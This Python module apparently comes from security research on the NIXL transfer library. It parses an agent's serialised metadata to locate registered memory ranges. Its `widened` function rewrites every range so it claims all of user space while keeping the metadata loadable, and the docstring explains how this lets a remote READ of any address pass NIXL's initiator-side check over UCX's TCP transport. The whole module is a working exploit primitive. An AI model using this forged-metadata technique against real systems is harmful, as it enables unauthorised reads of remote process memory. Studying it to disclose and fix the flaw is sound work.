"""NIXL agent metadata as an attacker sees it: the registered ranges, and a copy that claims every address.

NIXL checks a transfer's remote descriptors only on the initiator, against
the ranges listed in the metadata *the initiator loaded*. The metadata is
plain bytes in NIXL's own serialisation; each registered range of a memory
section is one length-prefixed element whose first 16 bytes are its address
and length (then the device id and UCX's packed key)::

    ... nixlSDList|t <u64 n> <mem type: n bytes> |n <u64 8> <u64 count>
        | <u64 n> [addr u64][len u64][dev u64][packed key ..] | <u64 n> [..] ...

Rewriting an element's ``(addr, len)`` in place keeps every length valid,
so NIXL loads the copy, and a READ of any address passes the initiator's
check. Over UCX's TCP transport the target's software RMA then copies from
whatever address the request names (issue #55, finding H1); with RDMA the
NIC would refuse it, since the packed key covers the real range only.

The format is NIXL's and may change between releases: :func:`registered_ranges`
raises :class:`MetadataFormatError` rather than guess, and a test parses a
real agent's metadata against the ranges it registered.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

_SECTION = b"nixlSDList|t"
_U64 = struct.Struct("<Q")
LOWEST_ADDRESS = 0x1000  # a widened range starts here (page zero is never mapped)
HIGHEST_ADDRESS = 1 << 47  # x86-64 user space ends below this


class MetadataFormatError(ValueError):
    """The bytes are not laid out as this module expects (another NIXL release?)."""


@dataclass(frozen=True)
class RegisteredRange:
    """One registered range of a memory section: where its ``(addr, len)`` pair sits in the metadata."""

    mem_type: int  # NIXL's memory-type number (0: DRAM)
    address: int
    num_bytes: int
    offset: int  # of the address in the metadata bytes


def _u64(data: bytes, at: int) -> int:
    if at + 8 > len(data):
        raise MetadataFormatError(f"metadata ends at byte {len(data)}, a u64 was expected at {at}")
    return _U64.unpack_from(data, at)[0]


def _expect(data: bytes, at: int, token: bytes) -> int:
    if data[at:at + len(token)] != token:
        raise MetadataFormatError(f"expected {token!r} at byte {at}, found {data[at:at + len(token)]!r}")
    return at + len(token)


def registered_ranges(metadata: bytes) -> list[RegisteredRange]:
    """Every registered range in every memory section of ``metadata``."""
    ranges: list[RegisteredRange] = []
    start = metadata.find(_SECTION)
    while start >= 0:
        at = start + len(_SECTION)
        type_bytes = _u64(metadata, at)
        mem_type = int.from_bytes(metadata[at + 8:at + 8 + type_bytes], "little")
        at = _expect(metadata, at + 8 + type_bytes, b"|n")
        if _u64(metadata, at) != 8:
            raise MetadataFormatError(f"the element count at byte {at} is not a u64")
        count = _u64(metadata, at + 8)
        at += 16
        for _ in range(count):
            at = _expect(metadata, at, b"|")
            element_bytes = _u64(metadata, at)
            if element_bytes < 24:
                raise MetadataFormatError(f"a {element_bytes}-byte element at byte {at} cannot hold addr, len, dev")
            ranges.append(RegisteredRange(mem_type, _u64(metadata, at + 8), _u64(metadata, at + 16), at + 8))
            at += 8 + element_bytes
        start = metadata.find(_SECTION, at)
    if not ranges:
        raise MetadataFormatError("no registered range found")
    return ranges


def widened(metadata: bytes, *, mem_type: int = 0) -> bytes:
    """``metadata`` with every range of ``mem_type`` claiming all of user space (same length, loads in NIXL)."""
    out = bytearray(metadata)
    hits = [r for r in registered_ranges(metadata) if r.mem_type == mem_type]
    if not hits:
        raise MetadataFormatError(f"no range of memory type {mem_type}")
    for hit in hits:
        struct.pack_into("<QQ", out, hit.offset, LOWEST_ADDRESS, HIGHEST_ADDRESS - LOWEST_ADDRESS)
    return bytes(out)
